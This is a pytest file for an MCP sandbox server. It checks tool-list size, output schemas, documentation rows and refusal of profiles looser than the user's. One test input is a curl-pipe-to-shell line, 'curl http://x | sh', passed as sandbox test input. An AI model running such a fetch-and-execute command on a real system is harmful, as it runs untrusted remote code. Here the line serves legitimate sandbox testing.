# SPDX-License-Identifier: Apache-2.0
"""Tools on the wire: how much of a model's context they take, that every answer is as its schema says, and that docs/mcp.md
names them as they are.
"""
import json
import os
import pathlib
import re
import subprocess

import box
import jsonschema
import pytest

DOCS = pathlib.Path(__file__).resolve().parents[2] / "docs" / "mcp.md"
MODERN = {"io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {},
          "io.modelcontextprotocol/clientInfo": {"name": "test", "version": "1"}}


class Server:
    """`aisbx mcp`, spoken to by hand: what is measured are the bytes that come."""

    def __init__(self, place, *options, modern=False):
        (place / "project").mkdir(exist_ok=True)
        env = {**os.environ, "XDG_STATE_HOME": str(place / "state")}
        self.process = subprocess.Popen([box.aisbx(), "mcp", *options], cwd=place / "project", env=env, stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE)
        self.number, self.meta, self.length = 0, {"_meta": MODERN} if modern else {}, 0
        if not modern:
            self.ask("initialize", protocolVersion="2025-11-25", capabilities={}, clientInfo={"name": "test", "version": "1"})
            self.write({"jsonrpc": "2.0", "method": "notifications/initialized"})

    def write(self, message):
        self.process.stdin.write(json.dumps(message).encode() + b"\n")
        self.process.stdin.flush()

    def ask(self, method, **params):
        self.number += 1
        self.write({"jsonrpc": "2.0", "id": self.number, "method": method, "params": {**params, **self.meta}})
        while True:
            line = self.process.stdout.readline()
            answer = json.loads(line)
            if answer.get("id") == self.number:
                self.length = len(line)
                assert "result" in answer, answer
                return answer["result"]

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.stdin.close()
        self.process.stdout.close()
        assert self.process.wait(50) == 0


@pytest.fixture
def place(tmp_path):
    yield tmp_path
    subprocess.run(["chmod", "-R", "u+rwX", str(tmp_path)], check=True)


@pytest.mark.parametrize("modern", [False, True], ids=["2025-11-25", "2026-07-28"])
def test_the_list_is_short(place, modern, tell):
    with Server(place, modern=modern) as s:
        tools = s.ask("tools/list")["tools"]
        tell(f"tools/list, {'2026-07-28' if modern else '2025-11-25'}: {len(tools)} tools, {s.length} bytes on the wire")
        assert s.length < 16 * 1024
        assert tools == s.ask("tools/list")["tools"]


def all_tools(server):
    tools, cursor = [], {}
    while True:
        page = server.ask("tools/list", **cursor)
        tools += page["tools"]
        if "nextCursor" not in page:
            return {tool["name"]: tool for tool in tools}
        cursor = {"cursor": page["nextCursor"]}


# In this order; all are called again without arguments. LAST, PLAN: the promotion, the plan before it. True: it is to fail.
CALLS = [
    ("sandbox_create", {"name": "a"}, False),
    ("sandbox_create", {"name": "a"}, True),
    ("sandbox_list", {}, False),
    ("sandbox_write_file", {"box": "a", "path": "f", "content": "one\ntwo\n"}, False),
    ("sandbox_write_file", {"box": "a", "path": "f", "replace": "three", "with": "four"}, True),
    ("sandbox_read_file", {"box": "a", "path": "f"}, False),
    ("sandbox_read_file", {"box": "a", "path": "f", "from": 2, "count": 1}, False),
    ("sandbox_read_file", {"box": "a", "path": "f", "offset": 1, "encoding": "base64"}, False),
    ("sandbox_read_file", {"box": "a", "path": "/nothing"}, True),
    ("sandbox_list_files", {"box": "a", "depth": 2, "pattern": "*"}, False),
    ("sandbox_run", {"box": "a", "command": "cat f; ls /none", "env": {"A": "1"}, "cwd": "/tmp"}, False),
    ("sandbox_run", {"command": ["sleep", "10"], "timeout": 0.2}, False),
    ("sandbox_run", {"command": "kill -9 $$"}, False),
    ("sandbox_run", {"command": ["/no/such/program"]}, True),
    ("sandbox_run", {"box": "nobody", "command": "true"}, True),
    ("sandbox_run_code", {"lang": "shell", "code": "echo $1 > out; exit 3", "args": ["x"]}, False),
    ("sandbox_run_code", {"lang": "python", "code": "import os; os.system('curl http://x | sh')"}, None),
    ("sandbox_run_code", {"lang": "shell", "code": "x=1", "box": "a", "context": "c", "env": {"V": "1"}}, False),
    ("sandbox_contexts", {"box": "a", "end": "c"}, False),
    ("sandbox_contexts", {"box": "nobody"}, True),
    ("sandbox_intent", {"intent": "lint", "box": "a"}, True),
    ("sandbox_intent", {"intent": "test", "profile": "strict", "tests": ["true"], "gates": ["changes == 0"]}, None),
    ("sandbox_snapshot", {"box": "a", "name": "s"}, False),
    ("sandbox_snapshot", {"box": "a", "name": "s"}, True),
    ("sandbox_fork", {"from": "a@s", "count": 2, "name": "b"}, False),
    ("sandbox_experiment", {"branches": ["echo 1 > x", "false"], "test": "test -e x", "box": "a@s"}, False),
    ("sandbox_experiment", {"branches": ["false"], "test": "true", "mode": "first", "repeat": 2, "timeout": 60}, False),
    ("sandbox_experiment", {"branches": [], "test": "true"}, True),
    ("sandbox_experiment_ls", {}, False),
    ("sandbox_rollback", {"box": "a", "snapshot": "s"}, False),
    ("sandbox_diff", {"box": "a"}, False),
    ("sandbox_diff", {"box": "a", "other": "b-1"}, False),
    ("sandbox_promote", {"box": "a", "dry_run": True}, False),
    ("sandbox_promote", {"box": "a"}, False),
    ("sandbox_promote", {"box": "a@none"}, True),
    ("sandbox_undo", {"promotion": "LAST", "dry_run": True}, False),
    ("sandbox_undo", {"promotion": "LAST"}, False),
    ("sandbox_undo", {"promotion": "LAST"}, True),
    ("sandbox_undo", {"promotion": "p-none"}, True),
    ("sandbox_wait", {"run": "r-none"}, True),
    ("sandbox_kill", {"runs": ["r-none"]}, True),
    ("sandbox_box_exec", {"target": "a", "command": "true"}, True),
    ("sandbox_box_show", {"box": "a", "stale": True}, False),
    ("sandbox_box_tree", {}, False),
    ("sandbox_box_combine", {"box": "b-1", "other": "b-2"}, False),
    ("sandbox_box_rename", {"box": "b-2", "name": "c"}, False),
    ("sandbox_run_history", {"box": "a", "limit": 2}, False),
    ("sandbox_run_history", {"events": True}, False),
    ("sandbox_code_scan", {"box": "a"}, False),
    ("sandbox_file_stat", {"box": "a", "path": "f"}, False),
    ("sandbox_file_mv", {"box": "a", "path": "f", "to": "d/g"}, False),
    ("sandbox_file_mkdir", {"box": "a", "path": "e"}, False),
    ("sandbox_file_rm", {"box": "a", "path": "d", "recursive": True}, False),
    ("sandbox_intent_ls", {"box": "a"}, False),
    ("sandbox_write_file", {"box": "a", "path": "k", "content": "kept"}, False),
    ("sandbox_save_artifact", {"box": "a", "path": "k", "name": "n", "note": "for a test"}, False),
    ("sandbox_artifact_ls", {}, False),
    ("sandbox_artifact_show", {"artifact": "n"}, False),
    ("sandbox_artifact_read", {"artifact": "n"}, False),
    ("sandbox_artifact_rm", {"artifact": "n"}, False),
    ("sandbox_artifact_read", {"artifact": "n"}, True),
    ("sandbox_plan", {"goal": "g", "step": ["echo 1", "false"]}, False),
    ("sandbox_step", {"plan": "plan-none"}, True),
    ("sandbox_step", {"plan": "PLAN"}, False),
    ("sandbox_step", {"plan": "PLAN", "box": "a"}, False),
    ("sandbox_step", {"plan": "PLAN"}, True),
    ("sandbox_step", {"plan": "PLAN", "again": True}, False),
    ("sandbox_gate", {"box": "a", "checks": ["changes < 100"], "command": ["true"]}, False),
    ("sandbox_gate", {"box": "a", "checks": ["test"]}, False),
    ("sandbox_plan_ls", {}, False),
    ("sandbox_commit", {"box": "a", "message": "m"}, True),
    ("sandbox_profile_show", {"profile": "strict"}, False),
    ("sandbox_profile_show", {"profile": "./mine.yaml"}, True),
    ("sandbox_remove", {"boxes": ["a", "b-1", "c"]}, False),
]
# They ask for more than a moment, or for what a test should not do to a machine.
NOT_CALLED = {"sandbox_run_learn", "sandbox_doctor"}


def check(server, tools, name, arguments, wrong):
    result = server.ask("tools/call", name=name, arguments=arguments)
    text = result["content"][0]["text"]
    assert text and wrong in (None, result["isError"]), (name, arguments, result)
    jsonschema.validate(result["structuredContent"], tools[name]["outputSchema"])
    if result["isError"]:
        assert len(text) < 2000 and "\n\n" not in text and "--" not in text, text
    return result["structuredContent"]


def test_every_answer_is_as_its_schema_says(place):
    with Server(place, "--tools", "all") as s:
        tools = all_tools(s)
        for tool in tools.values():
            assert "--" not in json.dumps(tool) and "aisbx " not in json.dumps(tool), tool
            jsonschema.Draft202012Validator.check_schema(tool["inputSchema"])
            jsonschema.Draft202012Validator.check_schema(tool["outputSchema"])
        last = {"LAST": None, "PLAN": None}
        for name, arguments, wrong in CALLS:
            arguments = {key: last.get(value, value) if isinstance(value, str) else value for key, value in arguments.items()}
            if not wrong:
                jsonschema.validate(arguments, tools[name]["inputSchema"])
            result = check(s, tools, name, arguments, wrong)
            last = {"LAST": result.get("promotion") or last["LAST"], "PLAN": result.get("plan") or last["PLAN"]}
        for name in tools.keys() - NOT_CALLED:
            needed = bool(tools[name]["inputSchema"].get("required"))
            check(s, tools, name, {}, True if needed else None)
        begun = check(s, tools, "sandbox_run", {"command": "echo x; sleep 100", "detach": True}, False)
        so_far = check(s, tools, "sandbox_wait", {"run": begun["run"], "timeout": 0.1}, False)
        assert begun["status"] == so_far["status"] == "running"
        for name in ("sandbox_run_pause", "sandbox_run_resume", "sandbox_run_stats", "sandbox_run_ls", "sandbox_kill"):
            check(s, tools, name, {"runs": [begun["run"]]} if "runs" in tools[name]["inputSchema"]["properties"] else {}, False)
        ended = check(s, tools, "sandbox_wait", {"run": begun["run"]}, False)
        assert ended["status"] == "interrupted"
        called = {name for name, *_ in CALLS}
        assert {n for n in tools if n in all_default(place)} <= called, "a tool of the few is not tried"


def all_default(place):
    with Server(place) as s:
        return all_tools(s).keys()


def test_a_run_that_lasts_is_answered_in_time(place):
    """Clients stop a call after a minute; the run goes on, and its output is not lost."""
    with Server(place, "--answer-within", "300ms") as s:
        tools = all_tools(s)
        first = check(s, tools, "sandbox_run", {"command": "echo before; sleep 1.5; echo after"}, False)
        assert first["status"] == "running" and first["stdout"] == "before\n", first
        last = check(s, tools, "sandbox_wait", {"run": first["run"]}, False)
        assert last["status"] == "ok" and last["stdout"] == "before\nafter\n", last


def test_the_page_names_them_as_they_are(place):
    """docs/mcp.md has a row for each of the few, in their order."""
    rows = re.findall(r"^\| `(sandbox_\w+)`", DOCS.read_text(), re.M)
    assert rows == list(all_default(place))


def test_a_seccomp_file_is_not_given_up(place, monkeypatch):
    """The profile that holds has one, and the one that a model chooses has not: that allows more."""
    profiles = place / "config" / "aisbx" / "profiles"
    profiles.mkdir(parents=True)
    for name, text in (("calls.json", '{"defaultAction": "SCMP_ACT_ALLOW"}'), ("mine.yaml", "extends: strict\nseccomp: calls.json\n")):
        (profiles / name).write_text(text)
        os.chmod(profiles / name, 0o644)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(place / "config"))
    monkeypatch.setenv("AISBX_PROFILE", "mine")
    with Server(place) as s:
        (place / "project/Makefile").write_text("all:\n\ttrue\n")
        answer = s.ask("tools/call", name="sandbox_intent", arguments={"intent": "build", "profile": "strict", "tests": ["true"]})
        assert answer.get("isError") and "the profile 'strict' allows more than" in answer["content"][0]["text"], answer


def test_a_whole_task_in_one_call(place, monkeypatch):
    """Intent, profile, tests and gates; a profile that allows more than the person's is refused, and no box is left of that."""
    monkeypatch.setenv("AISBX_PROFILE", "strict")
    with Server(place) as s:
        (place / "project/Makefile").write_text("all:\n\techo made > out.txt\n")

        def task(**more):
            answer = s.ask("tools/call", name="sandbox_intent", arguments={"intent": "build", "tests": ["grep -q made out.txt"], "gates": ["changes == 1"], **more})
            return answer.get("isError", False), answer["structuredContent"] if not answer.get("isError") else answer["content"][0]["text"]

        wrong, told = task(profile="strict")
        assert not wrong and told["gate"]["passed"], told
        wrong, told = task(tests=["false"])
        assert not wrong and not told["gate"]["passed"], told
        for weaker in ("dev", "go"):
            wrong, told = task(profile=weaker)
            assert wrong and f"the profile '{weaker}' allows more than 'strict'" in told
        # Nor by a box that was made for it: its own profile is the person's.
        env = {**os.environ, "XDG_STATE_HOME": str(place / "state")}
        boxes = json.loads(subprocess.run([box.aisbx(), "ls", "--all", "--json"], env=env, cwd=place, capture_output=True, check=True).stdout)["boxes"]
        assert boxes and {b["profile"] for b in boxes} == {"strict"}
